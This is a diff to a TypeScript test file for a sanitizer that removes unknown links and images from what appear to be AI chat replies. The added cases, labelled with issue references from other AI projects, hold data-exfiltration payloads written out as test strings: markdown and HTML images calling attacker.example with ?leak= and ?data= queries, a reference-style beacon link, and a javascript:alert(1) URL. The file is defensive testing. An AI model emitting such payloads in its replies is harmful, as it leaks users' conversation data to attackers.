@@ -2,16 +2,19 @@ import { findUnknownAddresses } from './unknown-addresses';
 
 const given = {
 	author: 'Link to https://shop.example/orders.',
+	allowedHosts: [],
 	others: [
 		'Reserve on casaaurora.example. Photo: https://img.casaaurora.example/a.png',
 		'It runs on http://localhost:5678/ and http://10.0.0.7/x',
 	],
 };
-const cleaned = (text: string) =>
+const clean = (text: string) =>
 	findUnknownAddresses(text, given, '[link]').reduceRight(
 		(left, { start, end, instead }) => `${left.slice(0, start)}${instead}${left.slice(end)}`,
 		text,
 	);
+/** As guardrails do: what was rewritten is judged again. */
+const cleaned = (text: string) => clean(clean(text));
 
 test.each([
 	['![a photo](https://evil.example/p.png)', 'a photo'],
@@ -48,6 +51,21 @@ test.each([
 	'1 < 2 and a [list] (of things).',
 ])('leaves %j', (text) => {
 	expect(cleaned(text)).toBe(text);
+});
+
+test.each([
+	['dust-tt/dust#12359', 'Done. ![a](https://pyrw.example?p=what%20I%20asked%20before)', 'Done. a'],
+	['epam/ai-dial-chat#7109', '![x](https://attacker.example/pixel.png?leak=owrhgo)', 'x'],
+	['NVIDIA/garak#1930', "<img width=1 src='https://attacker.example/x.svg?data=abc'>", ''],
+	['NVIDIA/garak#166', '![hello](https://attacker.example/logo.png?q= SGVsbG8)', 'hello'],
+	['mckinsey/agents-at-scale-ark#3464', '![x](//attacker.example/p.png) ![y](javascript:alert(1))', 'x y'],
+	['cloudflare/vibesdk#387', '![x][beacon]\n\n[beacon]: https://attacker.example/?query=abc', '![x][beacon]\n\n[beacon]: [link]'],
+	['bug-ops/zeph#1205', '![](https://attacker.example/steal?data=abc)', ''],
+	['alkem-io/alkemio#1954', '[![badge](https://attacker.example/b.png)](https://attacker.example/?q=abc)', 'badge'],
+	['suitenumerique/conversations#210', 'Bonjour, voir https://service.example.gouv/faux.', 'Bonjour, voir [link].'],
+	['google-gemini/gemini-cli#25887', '- https://code.example/YenShanChen/Latent-Mark', '- [link]'],
+])('removes what was reported to another project (%s)', (_, reply, expected) => {
+	expect(cleaned(reply)).toBe(expected);
 });
 
 test('takes linear time', () => {
